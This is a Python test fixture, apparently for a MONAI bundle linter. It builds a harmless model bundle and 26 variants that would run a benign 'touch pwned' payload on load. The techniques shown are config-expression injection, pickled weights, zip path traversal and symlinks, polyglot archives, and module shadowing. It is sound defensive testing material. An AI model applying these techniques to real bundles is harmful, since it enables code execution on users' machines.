"""A harmless bundle, and ways to make it run somebody's code, by who wrote the linter.

The last ten were found by a reviewer, who got past it; those of
`evil_bundles_blind.py` are by who had not seen it. The payload of all of them would touch a file
named `pwned`; nothing here is ever loaded, only read.
"""

import io
import json
import pickle
import shutil
import zipfile
from pathlib import Path

import torch

COMMAND = "touch pwned"
CALL = f"__import__('os').system('{COMMAND}')"
INFERENCE = {
    "imports": ["$import torch", "$import os"],
    "bundle_root": ".",
    "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "network_def": {"_target_": "monai.networks.nets.BasicUNet", "spatial_dims": 2, "in_channels": 1},
    "preprocessing": {"_target_": "Compose", "transforms": [{"_target_": "LoadImaged", "keys": "image"}]},
    "dataset": {"_target_": "Dataset", "data": [], "transform": "@preprocessing"},
    "dataloader": {"_target_": "DataLoader", "dataset": "@dataset"},
    "inferer": {"_target_": "SimpleInferer"},
    "evaluator": {
        "_target_": "SupervisedEvaluator",
        "device": "@device",
        "val_data_loader": "@dataloader",
        "network": "$@network_def.to(@device)",
        "inferer": "@inferer",
    },
    "run": ["$@evaluator.run()"],
}
LOGGING = """[loggers]
keys=root
[handlers]
keys=console
[formatters]
keys=full
[logger_root]
level=INFO
handlers=console
[handler_console]
class=StreamHandler
level=INFO
formatter=full
args=(sys.stdout,)
[formatter_full]
format=%(asctime)s - %(message)s
"""


def harmless(folder: Path) -> Path:
    """Write a small bundle in which there is nothing to find."""
    for name in ("configs", "models", "docs"):
        (folder / name).mkdir(parents=True)
    (folder / "configs" / "inference.json").write_text(json.dumps(INFERENCE))
    (folder / "configs" / "train.json").write_text(json.dumps(INFERENCE))
    (folder / "configs" / "metadata.json").write_text(json.dumps({"version": "0.1.0", "task": "none"}))
    (folder / "configs" / "logging.conf").write_text(LOGGING)
    torch.save({"weight": torch.zeros(2)}, folder / "models" / "model.pt")
    (folder / "docs" / "README.md").write_text("# A bundle")
    (folder / "LICENSE").write_text("Apache License, Version 2.0")
    return folder


def configured(folder: Path, **keys: object) -> None:
    path = folder / "configs" / "inference.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), **keys}))


def archived(folder: Path) -> Path:
    return Path(shutil.make_archive(str(folder), "zip", folder.parent, folder.name))


def plain_call(folder):
    """The victim runs the bundle."""
    configured(folder, initialize=[f"${CALL}"])


def target_of_a_shell(folder):
    """The victim runs the bundle, whose network is a process."""
    configured(folder, network_def={"_target_": "subprocess.Popen", "args": COMMAND, "shell": True})


def through_a_module_that_is_allowed(folder):
    """The path leads through torch to what torch imported."""
    configured(folder, device=f"$torch.serialization.os.system('{COMMAND}')")


def module_given_away_by_reference(folder):
    """One key is a module, another calls its function."""
    configured(folder, shell="$os", run=[f"$@shell.popen('{COMMAND}')"])


def subclasses_of_everything(folder):
    """No name at all: the classes that are loaded are walked through."""
    configured(folder, run=["$().__class__.__base__.__subclasses__()[140].__init__.__globals__"])


def expression_written_by_a_key(folder):
    """MONAI pastes the key into the relative id of the expression below it."""
    configured(folder, **{"x')," + CALL.replace("__", "") + ",('": {"a": 1, "b": "$@#a"}})


def reader_that_is_looked_up(folder):
    """LoadImage looks up a reader that it does not know as any class of any module."""
    transform = {"_target_": "LoadImaged", "keys": "image", "reader": "subprocess.Popen", "args": COMMAND}
    configured(folder, preprocessing=transform)


def function_that_is_given_as_text(folder):
    """A transform that calls what it is given."""
    transform = {"_target_": "Lambdad", "keys": "image", "func": "$lambda x: os.system('touch pwned')"}
    configured(folder, preprocessing=transform)


def key_of_a_deeper_target(folder):
    """An overlay sets the target of another file's network by its path."""
    configured(folder, **{"+network_def::_target_": "os.system", "network_def::command": COMMAND})


def include_of_a_file_elsewhere(folder):
    """What is evaluated lies where no linter looks."""
    configured(folder, run="%/tmp/elsewhere.json::run")


def handler_of_the_log(folder):
    """The arguments of a handler are evaluated before anything else happens."""
    evil = LOGGING.replace("(sys.stdout,)", f"({CALL},)")
    (folder / "configs" / "logging.conf").write_text(evil)


def pickle_in_the_weights(folder):
    """Older loaders, and weights_only=False, unpickle the weights."""

    class Payload:
        def __reduce__(self):
            return print, ("pwned",)

    torch.save({"weight": Payload()}, folder / "models" / "model.pt")


def second_pickle_in_the_weights(folder):
    """Two members of one name: who judges reads one, who loads the other."""
    path, content = folder / "models" / "model.pt", io.BytesIO()
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(content, "w") as evil:
        for name in archive.namelist():
            if name.endswith("data.pkl"):
                evil.writestr(name, pickle.dumps(print))
            evil.writestr(name, archive.read(name))
    path.write_bytes(content.getvalue())


def package_beside_the_configs(folder):
    """The bundle's root comes first on the path: its own `nibabel` would be imported."""
    (folder / "nibabel").mkdir()
    (folder / "nibabel" / "__init__.py").write_text(CALL)


def archive_that_leads_out(folder):
    """Unpacking writes a file beside the folder."""
    path = archived(folder)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(f"{folder.name}/../../.bashrc", COMMAND)
    return path


def archive_with_a_link(folder):
    """Unpacking makes a link, and the next member is written through it."""
    path = archived(folder)
    entry = zipfile.ZipInfo(f"{folder.name}/docs/elsewhere")
    entry.external_attr = 0o120777 << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(entry, "/etc")
    return path


def module_that_is_a_file_of_the_bundle(folder):
    """A text becomes a module by its new name: MONAI imports a target that it does not know."""
    (folder / "docs" / "notes.txt").write_text(CALL)
    configured(
        folder, shell="$import os", initialize=["$@shell.replace('docs/notes.txt', 'Evil.py')", {"_target_": "Evil"}]
    )


def key_that_calls_a_builtin(folder):
    """A comma in a key ends the reference; what was an id becomes a name."""
    configured(folder, initialize=[{"q": 0, "q,": {"a": f"$[0][@#eval({CALL!r})]"}}])


def picture_that_is_a_package(folder):
    """The root of the bundle is a zip that is called a picture."""
    with zipfile.ZipFile(folder / "docs" / "figure.png", "w") as archive:
        archive.writestr("Evil.py", CALL)
    insert = "$sys.path.insert(0, @bundle_root)"
    configured(folder, imports=["$import sys"], bundle_root="docs/figure.png", initialize=[insert])


def weights_that_are_a_package(folder):
    """The same in a member of the weights."""
    with zipfile.ZipFile(folder / "models" / "model.pt", "a") as archive:
        archive.writestr(archive.namelist()[0].split("/")[0] + "/data/Evil.py", CALL)


def log_that_is_a_module(folder):
    """A handler writes its format as code into a file that is imported afterwards."""
    handler = {"_target_": "LogfileHandler", "output_dir": ".", "filename": "Evil.py", "formatter": CALL}
    configured(folder, handlers=[handler])


def settings_of_the_log_elsewhere(folder):
    """The arguments of the run name another file than logging.conf."""
    (folder / "docs" / "log.txt").write_text(LOGGING.replace("(sys.stdout,)", f"({CALL},)"))
    (folder / "configs" / "run_args.json").write_text(json.dumps({"logging_file": "docs/log.txt"}))


def merger_that_is_looked_up(folder):
    """As a reader is, of an inferer."""
    configured(folder, inferer={"_target_": "PatchInferer", "splitter": None, "merger_cls": "evil"})


def list_of_large_files_by_another_name(folder):
    """MONAI takes any large_files*, and fetches a module that shadows one."""
    entry = {"path": "fire.py", "url": "file:docs/README.md"}
    (folder / "large_files_v1.json").write_text(json.dumps({"large_files": [entry]}))


def config_in_a_hidden_folder(folder):
    """An include of what looks like history."""
    (folder / ".git").mkdir()
    (folder / ".git" / "x.json").write_text(json.dumps({"run": f"${CALL}"}))
    configured(folder, initialize=["%.git/x.json::run"])


def tar_before_the_zip(folder):
    """Older loaders take the tar in front, who judges the zip behind."""
    path = folder / "models" / "model.pt"
    path.write_bytes(b"PK" + bytes(510) + path.read_bytes())


KNOWN = (
    plain_call,
    target_of_a_shell,
    through_a_module_that_is_allowed,
    module_given_away_by_reference,
    subclasses_of_everything,
    expression_written_by_a_key,
    reader_that_is_looked_up,
    function_that_is_given_as_text,
    key_of_a_deeper_target,
    include_of_a_file_elsewhere,
    handler_of_the_log,
    pickle_in_the_weights,
    second_pickle_in_the_weights,
    package_beside_the_configs,
    archive_that_leads_out,
    archive_with_a_link,
    module_that_is_a_file_of_the_bundle,
    key_that_calls_a_builtin,
    picture_that_is_a_package,
    weights_that_are_a_package,
    log_that_is_a_module,
    settings_of_the_log_elsewhere,
    merger_that_is_looked_up,
    list_of_large_files_by_another_name,
    config_in_a_hidden_folder,
    tar_before_the_zip,
)
